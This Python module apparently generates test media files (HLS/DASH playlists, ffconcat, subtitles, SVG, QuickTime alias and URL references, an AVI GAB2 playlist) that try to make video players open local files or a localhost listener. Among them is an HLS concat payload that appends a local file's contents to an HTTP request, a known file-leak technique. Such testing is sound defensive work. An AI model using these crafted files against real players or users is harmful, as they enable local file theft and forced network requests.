"""Files that make players open other files or the network, under any name that footage has."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

ENDINGS = ("mp4", "mov", "mkv", "avi", "ts", "webm")


@dataclass(frozen=True)
class Bait:
    """What a file tries to reach: a text, a video and a picture that lie outside, and a server.

    ``port`` is where somebody listens on this machine.
    """

    text: Path
    video: Path
    picture: Path
    port: int

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/x.mp4"


def scripts(bait: Bait) -> dict[str, bytes]:
    """Return playlists, scripts and documents by name; each names ``bait``."""
    video, text, url = bait.video, bait.text, bait.url
    host = f"127.0.0.1:{bait.port}"
    told = {
        "hls-file": _playlist(f"file://{video}"),
        "hls-path": _playlist(str(video)),
        "hls-url": _playlist(url),
        "hls-text": _playlist(f"concat:{text}|subfile,,start,0,end,64,,:{text}"),
        "hls-leak": _playlist(f"concat:http://{host}/?|file://{text}"),
        "hls-data": _playlist(f"data:video/mp4;base64,AAAA#{video}"),
        "hls-crypto": _playlist(f"crypto+file://{video}"),
        "hls-key": _playlist(str(video), f'#EXT-X-KEY:METHOD=AES-128,URI="file://{text}"'),
        "hls-map": _playlist(url, f'#EXT-X-MAP:URI="{video}"'),
        "hls-master": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}\n",
        "hls-sound": (
            f'#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="file://{video}"\n'
            f'#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n{video}\n'
        ),
        "concat": f"ffconcat version 1.0\nfile '{video}'\n",
        "concat-option": f"ffconcat version 1.0\nfile 'x'\noption safe 0\nfile '{video}'\n",
        "concat-url": f"ffconcat version 1.0\nfile '{url}'\n",
        "sdp": (
            "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
            f"m=video {bait.port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
        ),
        "dash": _dash(f"file://{video}"),
        "dash-url": _dash(url),
        "smooth": f'<SmoothStreamingMedia MajorVersion="2"><!-- {url} --></SmoothStreamingMedia>',
        "imf": f'<AssetMap><AssetList><Path>{video}</Path></AssetList></AssetMap>',
        "asx": f'<asx version="3.0"><entry><ref href="{url}"/></entry></asx>',
        "asf-reference": f"[Reference]\nRef1={url}\nRef2=file://{video}\n",
        "qtl": f'<?quicktime type="application/x-quicktime-media-link"?><embed src="{url}"/>',
        "rtsptext": f"RTSPtextrtsp://{host}/x",
        "smil": f'<smil><body><video src="{video}"/></body></smil>',
        "m3u": f"{video}\n{url}\n",
        "pls": f"[playlist]\nFile1={video}\nNumberOfEntries=1\n",
        "xspf": f"<playlist><trackList><track><location>{url}</location></track></trackList>",
        "avisynth": f'DirectShowSource("{video}")\n',
        "lavfi": f"movie={video}\n",
        "ffmetadata": f";FFMETADATA1\ntitle={video}\n",
        "subrip": f"1\n00:00:00,000 --> 00:00:09,000\n<img src='{url}'>\n",
        "ass": f"[Script Info]\n[Events]\nDialogue: 0,0:0:0.0,0:0:9.0,,,,,,,{{\\img({video})}}",
        "vobsub": f"# VobSub index file, v7\nid: en, index: 0\n# {video}\n",
        "microdvd": f"{{0}}{{25}}{{f:{video}}}x\n{{26}}{{50}}y\n",
        "webvtt": f"WEBVTT\n\nSTYLE\n::cue {{ background: url({url}) }}\n\n0:00.0 --> 0:09.0\nx\n",
        "svg": (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            f'<image xlink:href="file://{bait.picture}" width="9" height="9"/></svg>'
        ),
        "tty": "\x1b[2J\x1b[31m" + f"{text}\n" * 40,
        "html": f'<html><video src="{url}" autoplay></video></html>',
        "internet-shortcut": f"[InternetShortcut]\nURL={url}\n",
        "xpm": '/* XPM */\nstatic char *x[] = {"1 1 1 1", "a c #FF0000", "a"};\n',
    }  # fmt: skip
    return {name: content.encode() for name, content in told.items()}


def _playlist(address: str, *more: str) -> str:
    lines = ("#EXTM3U", "#EXT-X-TARGETDURATION:9", "#EXT-X-MEDIA-SEQUENCE:0", *more)
    return "\n".join((*lines, "#EXTINF:9.0,", address, "#EXT-X-ENDLIST", ""))


def _dash(address: str) -> str:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT9S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">'
        '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" '
        f'codecs="avc1.42c00d"><BaseURL>{address}</BaseURL></Representation></AdaptationSet>'
        "</Period></MPD>"
    )


# --- QuickTime's references to media in other files -----------------------------------------------


def box(kind: bytes, *inside: bytes) -> bytes:
    """Return an MP4 box."""
    body = b"".join(inside)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def boxes(data: bytes, start: int = 0, end: int | None = None) -> Iterator[tuple[bytes, int, int]]:
    """Yield the kind, start and size of every box in ``data``, those inside others as well."""
    at = start
    end = len(data) if end is None else end
    while at + 8 <= end:
        size, kind = struct.unpack_from(">I4s", data, at)
        if size < 8 or at + size > end:
            return
        yield kind, at, size
        if kind in _FOLDERS:
            yield from boxes(data, at + 8, at + size)
        at += size


_FOLDERS = frozenset((b"moov", b"trak", b"mdia", b"minf", b"dinf", b"stbl", b"edts", b"udta"))


def replaced(data: bytes, kind: bytes, new: bytes) -> bytes:
    """Return an MP4 whose first ``kind`` box is ``new``; its index must come after its media."""
    found = {each[0]: each for each in reversed(list(boxes(data)))}
    _, start, size = found[kind]
    changed = bytearray(data)
    for other, at, length in boxes(data):
        if other in _FOLDERS and at < start and start + size <= at + length:
            struct.pack_into(">I", changed, at, length - size + len(new))
    changed[start : start + size] = new
    return bytes(changed)


def references(film: bytes, bait: Bait) -> dict[str, bytes]:
    """Return QuickTime files whose media lies elsewhere.

    Args:
        film: an MP4 that ffmpeg wrote, its index after its media.
        bait: what they point to.
    """
    made = {
        "dref-alias": replaced(film, b"dref", _dref(b"alis", 0, _alias(bait.video))),
        "dref-url": replaced(film, b"dref", _dref(b"url ", 0, f"file://{bait.video}\0".encode())),
        "dref-http": replaced(film, b"dref", _dref(b"url ", 0, f"{bait.url}\0".encode())),
        "dref-urn": replaced(film, b"dref", _dref(b"urn ", 0, f"x\0{bait.url}\0".encode())),
    }
    for name, address in (("file", f"file://{bait.video}"), ("http", bait.url)):
        written = address.encode() + b"\0"
        told = box(b"rdrf", struct.pack(">I4sI", 0, b"url ", len(written)), written)
        made[f"rmra-{name}"] = box(b"moov", box(b"rmra", box(b"rmda", told)))
    alias = _alias(bait.video)
    told = box(b"rdrf", struct.pack(">I4sI", 0, b"alis", len(alias)), alias)
    made["rmra-alias"] = box(b"moov", box(b"rmra", box(b"rmda", told)))
    made["subtitle-in-avi"] = _with_subtitle_playlist(bait)
    return made


def _dref(kind: bytes, flags: int, address: bytes) -> bytes:
    return box(b"dref", struct.pack(">II", 0, 1), box(kind, struct.pack(">I", flags), address))


def _alias(path: Path) -> bytes:
    """Return a Macintosh alias record to ``path``, as QuickTime writes one (version 2)."""
    name = path.name.encode()[:63]
    volume = b"Macintosh HD"
    fixed = struct.pack(">4sHHH", b"\0" * 4, 0, 2, 0)
    fixed += bytes([len(volume)]) + volume.ljust(27, b"\0")
    fixed += struct.pack(">I2s2sI", 0, b"H+", b"\0\0", 0)
    fixed += bytes([len(name)]) + name.ljust(63, b"\0")
    fixed += struct.pack(">II4s4shhI2s10s", 0, 0, b"", b"", 0, 0, 0, b"", b"")
    told = b""
    for kind, text in ((2, str(path).encode()), (18, str(path).encode()), (19, b"/")):
        told += struct.pack(">HH", kind, len(text)) + text + b"\0" * (len(text) % 2)
    record = fixed + told + struct.pack(">hH", -1, 0)
    return record[:4] + struct.pack(">H", len(record)) + record[6:]


def _with_subtitle_playlist(bait: Bait) -> bytes:
    """Return an AVI whose subtitle track holds a playlist: "GAB2", as DivX players take it."""
    listed = _playlist(f"file://{bait.text}").encode()
    chunk = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"x\0" + struct.pack("<HI", 4, len(listed))
    chunk += listed
    header = struct.pack("<4s4s", b"txts", b"\0\0\0\0") + struct.pack("<10I", *([0] * 10))
    stream = _riff(b"LIST", b"strl", _riff(b"strh", header), _riff(b"strf", b""))
    main = struct.pack("<14I", 40_000, 0, 0, 0x10, 1, 0, 1, 0, 160, 90, 0, 0, 0, 0)
    lists = _riff(b"LIST", b"hdrl", _riff(b"avih", main), stream)
    return _riff(b"RIFF", b"AVI ", lists, _riff(b"LIST", b"movi", _riff(b"00tx", chunk)))


def _riff(kind: bytes, *inside: bytes) -> bytes:
    body = b"".join(inside)
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)
